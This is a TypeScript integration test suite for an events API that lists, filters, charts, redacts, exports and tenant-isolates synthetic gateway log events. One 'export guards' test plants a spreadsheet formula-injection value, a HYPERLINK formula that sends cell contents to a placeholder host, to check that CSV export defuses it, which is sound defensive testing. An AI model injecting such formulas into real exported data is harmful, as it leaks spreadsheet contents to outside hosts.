/**
 * The events API behind Jelajah, against planted events whose every field is
 * known: each filter selects exactly the events it should; keyset pages visit
 * every event once, newest first, and the first page counts them; the
 * histogram adds up to the same events, from raw events for short windows
 * and from the rollups for long ones; one event in full carries the record
 * as the gateway sent it, redacted; CSV (comma and id-ID semicolon) and NDJSON
 * exports are exactly the API's rows; an operator sees, pages, counts and
 * exports only its own instansi.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportChunks, planExport } from '../../shared/metrics/events-export.js'
import { startTestStack, type TestStack } from '../support/stack.js'

let stack: TestStack
let apiId: string
let operator: string
const NOW = Math.floor(Date.now() / 1000) * 1000

interface Planted {
  requestId: string
  ts: number
  method: string
  endpoint: string
  statusCode: number
  duration: number
  clientIp: string
  consumer: string
}

/** 120 events for kota-a over the last 100 minutes, every field a function of i. */
const planted: Planted[] = Array.from({ length: 120 }, (_, i) => ({
  requestId: `a-${i}`,
  ts: NOW - 50_000 * i - 7,
  method: i % 4 === 0 ? 'POST' : 'GET',
  endpoint: i % 3 === 0 ? `/layanan/v1/items/${i}?token=s3cret-${i}&page=2` : `/layanan/v1/search?q=${i}`,
  statusCode: i % 10 === 0 ? 503 : i % 7 === 0 ? 404 : i % 5 === 0 ? 301 : 200,
  duration: 5 + ((i * 37) % 900),
  clientIp: `10.0.0.${i % 6}`,
  consumer: i % 2 ? 'app-warga' : 'app-dinas',
}))

const record = (p: Planted, service: string) =>
  JSON.stringify({
    timestamp: new Date(p.ts).toISOString(),
    level: p.statusCode >= 500 ? 'ERROR' : 'INFO',
    service,
    requestId: p.requestId,
    userId: `nik-3201${p.requestId}`,
    method: p.method,
    endpoint: p.endpoint,
    statusCode: p.statusCode,
    duration: p.duration,
    message: 'ok',
    clientIp: p.clientIp,
    consumer: p.consumer,
  })

async function ingest(token: string, lines: string[]): Promise<void> {
  const res = await fetch(`${stack.ingest}/ingest/pasal13`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: lines.join('\n') })
  expect(res.status, await res.text()).toBe(200)
}

const window = `from=${new Date(NOW - 3 * 3600e3).toISOString()}&to=${new Date(NOW + 60e3).toISOString()}`

/** Every event of a query, paging with `limit`; each page is checked to continue the order. */
async function all(query: string, limit = 7, token?: string): Promise<{ rows: any[]; total: number; pages: number }> {
  const rows: any[] = []
  let cursor: string | undefined
  let total = -1
  let pages = 0
  do {
    const res = await stack.call('GET', `/v1/events?${window}&limit=${limit}&${query}${cursor ? `&cursor=${cursor}` : ''}`, undefined, token)
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    if (!cursor) total = res.body.pagination.total
    else expect(res.body.pagination.total).toBeUndefined()
    rows.push(...res.body.data)
    cursor = res.body.pagination.next_cursor
    pages++
  } while (cursor)
  return { rows, total, pages }
}

const ids = (rows: any[]) => rows.map((r) => r.request_id).sort()
const expected = (keep: (p: Planted) => boolean) =>
  planted
    .filter(keep)
    .map((p) => p.requestId)
    .sort()

beforeAll(async () => {
  stack = await startTestStack()
  const tokenA = await stack.gateway('kota-a', { kind: 'kota' })
  const tokenB = await stack.gateway('kota-b', { kind: 'kota' })
  const api = await stack.call('POST', '/v1/registry/apis', { instansi: 'kota-a', name: 'Layanan A', base_path: '/layanan/v1' })
  apiId = api.body.data.id
  await stack.collector!.registry.refresh()
  await ingest(
    tokenA,
    planted.map((p) => record(p, 'svc-a')),
  )
  await ingest(
    tokenB,
    planted.slice(0, 30).map((p) => record({ ...p, requestId: `b-${p.requestId}` }, 'svc-b')),
  )
  await stack.flushed()
  operator = (await stack.call('POST', '/v1/admin/tokens', { name: 'op-a', role: 'operator', instansi: 'kota-a' })).body.data.token
})
afterAll(() => stack?.stop())

describe('GET /v1/events', () => {
  it('pages through every event once, newest first, and counts them on the first page', async () => {
    const { rows, total, pages } = await all('instansi=kota-a')
    expect(total).toBe(120)
    expect(pages).toBe(Math.ceil(120 / 7))
    expect(ids(rows)).toEqual(expected(() => true))
    const times = rows.map((r) => Date.parse(r.ts))
    expect([...times].sort((a, b) => b - a)).toEqual(times)
    const first = rows.find((r) => r.request_id === 'a-3')
    expect(first).toMatchObject({ instansi: 'kota-a', api_id: apiId, method: 'GET', status: 200, client_address: '10.0.0.3', consumer_id: 'app-warga' })
    expect(first.ts).toBe(new Date(planted[3].ts).toISOString())
  })

  it('each filter selects exactly its events', async () => {
    const cases: Array<[string, (p: Planted) => boolean]> = [
      ['status_class=5xx', (p) => p.statusCode >= 500],
      ['status_class=3xx', (p) => p.statusCode >= 300 && p.statusCode < 400],
      ['status=404', (p) => p.statusCode === 404],
      ['method=post', (p) => p.method === 'POST'],
      ['path_prefix=/layanan/v1/items', (p) => p.endpoint.startsWith('/layanan/v1/items')],
      ['client_address=10.0.0.2', (p) => p.clientIp === '10.0.0.2'],
      ['min_latency_ms=500', (p) => p.duration >= 500],
      ['consumer=app-dinas', (p) => p.consumer === 'app-dinas'],
      [`api=${apiId}`, () => true],
      ['source_format=pasal13', () => true],
      ['source_format=kong', () => false],
      ['status_class=4xx&client_address=10.0.0.0&method=GET', (p) => p.statusCode === 404 && p.clientIp === '10.0.0.0' && p.method === 'GET'],
    ]
    for (const [query, keep] of cases) {
      const { rows, total } = await all(`instansi=kota-a&${query}`, 50)
      expect(ids(rows), query).toEqual(expected(keep))
      expect(total, query).toBe(expected(keep).length)
    }
    const gateway = (await all('instansi=kota-a', 500)).rows[0].gateway_id
    expect((await all(`gateway=${gateway}`, 500)).total).toBe(120)
  })

  it('refuses a bad filter or cursor by name', async () => {
    for (const [query, field] of [
      ['status_class=6xx', 'status_class'],
      ['min_latency_ms=-1', 'min_latency_ms'],
      ['cursor=nope', 'cursor'],
      ['method=G%20T', 'method'],
    ]) {
      const res = await stack.call('GET', `/v1/events?${query}`)
      expect(res.status, query).toBe(400)
      expect(JSON.stringify(res.body), query).toContain(field)
    }
  })
})

describe('GET /v1/events/histogram', () => {
  it('adds up to the matching events by status class, from raw events in a short window', async () => {
    const res = await stack.call('GET', `/v1/events/histogram?${window}&instansi=kota-a`)
    expect(res.status).toBe(200)
    expect(res.body.meta).toMatchObject({ source: 'raw', interval: '1m' })
    const sum = (k: string) => res.body.data.reduce((n: number, p: any) => n + p[k], 0)
    expect(sum('requests')).toBe(120)
    expect(sum('status_5xx')).toBe(expected((p) => p.statusCode >= 500).length)
    expect(sum('status_4xx')).toBe(expected((p) => p.statusCode >= 400 && p.statusCode < 500).length)
    expect(sum('status_3xx')).toBe(expected((p) => p.statusCode >= 300 && p.statusCode < 400).length)
    expect(sum('status_2xx')).toBe(expected((p) => p.statusCode < 300).length)
    for (const p of res.body.data) expect(p.requests).toBe(p.status_2xx + p.status_3xx + p.status_4xx + p.status_5xx)
  })

  it('reads the rollups for a long window when they hold the filters, raw events otherwise', async () => {
    const week = `from=now-7d&to=${new Date(NOW + 3600e3).toISOString()}`
    const rollup = await stack.call('GET', `/v1/events/histogram?${week}&instansi=kota-a&status_class=5xx`)
    expect(rollup.body.meta).toMatchObject({ source: 'rollup', interval: '1h' })
    const total = (d: any[]) => d.reduce((n, p) => n + p.requests, 0)
    expect(total(rollup.body.data)).toBe(expected((p) => p.statusCode >= 500).length)
    const raw = await stack.call('GET', `/v1/events/histogram?${week}&instansi=kota-a&method=POST`)
    expect(raw.body.meta.source).toBe('raw')
    expect(total(raw.body.data)).toBe(expected((p) => p.method === 'POST').length)
  })
})

describe('GET /v1/events/{id}', () => {
  it('shows every field and the record as the gateway sent it, redacted', async () => {
    const row = (await all('instansi=kota-a&path_prefix=/layanan/v1/items/3', 10)).rows[0]
    expect(row.request_id).toBe('a-3')
    const res = await stack.call('GET', `/v1/events/${row.event_id}?ts=${encodeURIComponent(row.ts)}`)
    expect(res.status).toBe(200)
    const e = res.body.data
    expect(e).toMatchObject({ event_id: row.event_id, ts: row.ts, status: 200, method: 'GET', level: 'info', service: 'svc-a', message: 'ok' })
    expect(e.path).toBe('/layanan/v1/items/3?token=REDACTED&page=2')
    expect(e.user_hash).toMatch(/^[0-9a-f]{32}$/)
    const raw = JSON.parse(e.raw_record)
    expect(raw).toMatchObject({ requestId: 'a-3', endpoint: '/layanan/v1/items/3?token=REDACTED&page=2', userId: 'REDACTED', clientIp: '10.0.0.3' })
    expect(e.raw_record).not.toContain('s3cret')
    expect(e.raw_record).not.toContain('nik-3201')
    // without the time hint it is searched for, and found the same
    expect((await stack.call('GET', `/v1/events/${row.event_id}`)).body.data).toEqual(e)
    expect((await stack.call('GET', '/v1/events/00000000-0000-4000-8000-000000000000')).status).toBe(404)
    expect((await stack.call('GET', '/v1/events/not-an-id')).status).toBe(400)
  })
})

/** A CSV line split on `sep` with RFC 4180 quotes. */
function csvLine(line: string, sep: string): string[] {
  const out: string[] = []
  let cur = ''
  let quoted = false
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') (cur += '"'), i++
      else if (ch === '"') quoted = false
      else cur += ch
    } else if (ch === '"') quoted = true
    else if (ch === sep) out.push(cur), (cur = '')
    else cur += ch
  }
  out.push(cur)
  return out
}

async function exported(query: string, accept: string, token = stack.adminToken): Promise<{ status: number; type: string | null; bytes: Buffer }> {
  const res = await fetch(`${stack.api}/v1/events?${window}&${query}`, { headers: { authorization: `Bearer ${token}`, accept } })
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) }
}

describe('export', () => {
  const query = 'instansi=kota-a&status_class=4xx'

  it('CSV (UTF-8 with BOM) holds exactly the rows the API lists, in the same order', async () => {
    const api = (await all(query, 1000)).rows
    const csv = await exported(query, 'text/csv')
    expect(csv.status).toBe(200)
    expect(csv.type).toBe('text/csv; charset=utf-8')
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const [header, ...lines] = csv.bytes.subarray(3).toString('utf8').trimEnd().split('\n')
    const names = csvLine(header!, ',')
    expect(names.slice(0, 3)).toEqual(['ts', 'ts_wib', 'event_id'])
    const rows = lines.map((l) => Object.fromEntries(csvLine(l, ',').map((v, i) => [names[i], v])))
    expect(rows.length).toBe(api.length)
    rows.forEach((r, i) => {
      const a = api[i]
      for (const [k, v] of Object.entries(a)) expect(r[k], `${i}.${k}`).toBe(v === null ? '\\N' : String(v))
      expect(r.ts_wib).toBe(new Date(Date.parse(a.ts) + 7 * 3600e3).toISOString().slice(0, 19).replace('T', ' '))
    })
  })

  it('CSV for id-ID spreadsheets: `;` and decimal commas', async () => {
    const api = (await all(query, 1000)).rows
    const csv = await exported(`${query}&sep=semicolon&format=csv`, '*/*')
    const [header, ...lines] = csv.bytes.subarray(3).toString('utf8').trimEnd().split('\n')
    const names = csvLine(header!, ';')
    const rows = lines.map((l) => Object.fromEntries(csvLine(l, ';').map((v, i) => [names[i], v])))
    expect(rows.map((r) => r.event_id)).toEqual(api.map((a) => a.event_id))
    rows.forEach((r, i) => {
      expect(Number(r.latency_ms.replace(',', '.'))).toBe(api[i].latency_ms)
    })
    expect(rows.some((r) => r.latency_ms.includes(','))).toBe(rows.some((_, i) => !Number.isInteger(api[i].latency_ms)))
  })

  it('NDJSON holds exactly the rows the API lists', async () => {
    const api = (await all(query, 1000)).rows
    const nd = await exported(query, 'application/x-ndjson')
    expect(nd.type).toBe('application/x-ndjson')
    expect(
      nd.bytes
        .toString('utf8')
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l)),
    ).toEqual(api)
  })

  it('streams in time slices, each sorted on its own: the same rows, the same order, one CSV header', async () => {
    const api = (await all('instansi=kota-a', 1000)).rows
    const f = { instansi: 'kota-a', fromMs: NOW - 3 * 3600e3, toMs: NOW + 60e3 }
    const slices = await planExport(stack.storage!, f, 100, 9)
    expect(slices.length).toBeGreaterThan(10)
    expect(slices.reduce((n, s) => n + s.rows, 0)).toBe(100)
    for (let i = 1; i < slices.length; i++) expect(slices[i]!.toMs).toBeLessThanOrEqual(slices[i - 1]!.fromMs)
    const text = async (format: 'csv' | 'ndjson') => {
      let out = ''
      for await (const chunk of exportChunks(stack.storage!, slices, f, format)) out += Buffer.from(chunk).toString('utf8')
      return out.trimEnd().split('\n')
    }
    expect((await text('ndjson')).map((l) => JSON.parse(l).event_id)).toEqual(api.slice(0, 100).map((r) => r.event_id))
    const csv = await text('csv')
    expect(csv.filter((l) => l.startsWith('"ts",'))).toHaveLength(1)
    expect(csv).toHaveLength(101)
  })

  it('is limited by `limit` and audited', async () => {
    const nd = await exported('instansi=kota-a&format=ndjson&limit=5', '*/*')
    expect(nd.bytes.toString('utf8').trimEnd().split('\n')).toHaveLength(5)
    const audit = await stack.storage!.query<{ n: number }>(`SELECT count() AS n FROM audit_log WHERE action = 'events.export'`)
    expect(Number(audit[0]!.n)).toBeGreaterThanOrEqual(4)
  })
})

describe('export guards', () => {
  it('a request id a spreadsheet would run as a formula is defused in CSV, kept as sent in JSON and NDJSON', async () => {
    const token = await stack.gateway('kota-c', { kind: 'kota' })
    const formula = '=HYPERLINK("http://x/?"&A1)'
    await ingest(token, [record({ ...planted[1]!, requestId: formula }, 'svc-c')])
    await stack.flushed()
    const api = (await all('instansi=kota-c', 10)).rows
    expect(api.map((r) => r.request_id)).toEqual([formula])
    const csv = await exported('instansi=kota-c', 'text/csv')
    const [header, line] = csv.bytes.subarray(3).toString('utf8').trimEnd().split('\n')
    const names = csvLine(header!, ',')
    expect(csvLine(line!, ',')[names.indexOf('request_id')]).toBe(`'${formula}`)
    const nd = await exported('instansi=kota-c', 'application/x-ndjson')
    expect(JSON.parse(nd.bytes.toString('utf8')).request_id).toBe(formula)
  })

  it('an export may ask for more rows than a page holds; a page may not', async () => {
    const nd = await exported('instansi=kota-a&format=ndjson&limit=5000', '*/*')
    expect(nd.bytes.toString('utf8').trimEnd().split('\n')).toHaveLength(120)
    const page = await stack.call('GET', `/v1/events?${window}&limit=5000`)
    expect(page.status).toBe(400)
    expect(page.body.errors?.[0]?.field ?? page.body.field).toMatch(/limit/)
  })

  it('`to` alone is the hour before it', async () => {
    const to = new Date(NOW - 3600e3).toISOString()
    const r = await stack.call('GET', `/v1/events?to=${encodeURIComponent(to)}&limit=1`)
    expect(r.status).toBe(200)
    expect(r.body.meta.from).toBe(new Date(Date.parse(to) - 3600e3).toISOString())
  })
})

describe('tenancy', () => {
  it('an operator sees, counts, charts and exports only its own instansi', async () => {
    const own = await all('', 50, operator)
    expect(own.total).toBe(120)
    expect(new Set(own.rows.map((r) => r.instansi))).toEqual(new Set(['kota-a']))
    const h = await stack.call('GET', `/v1/events/histogram?${window}`, undefined, operator)
    expect(h.body.data.reduce((n: number, p: any) => n + p.requests, 0)).toBe(120)
    const nd = await exported('format=ndjson', '*/*', operator)
    const lines = nd.bytes.toString('utf8').trimEnd().split('\n')
    expect(lines).toHaveLength(120)
    expect(lines.every((l) => JSON.parse(l).instansi === 'kota-a')).toBe(true)
    for (const path of ['/v1/events?instansi=kota-b', '/v1/events?instansi=kota-b&format=csv', '/v1/events/histogram?instansi=kota-b'])
      expect((await stack.call('GET', path, undefined, operator)).status, path).toBe(403)
    const other = (await all('instansi=kota-b', 50)).rows[0]
    expect(other.instansi).toBe('kota-b')
    expect((await stack.call('GET', `/v1/events/${other.event_id}?ts=${encodeURIComponent(other.ts)}`, undefined, operator)).status).toBe(404)
    expect((await stack.call('GET', `/v1/events/${other.event_id}`)).status).toBe(200)
  })
})
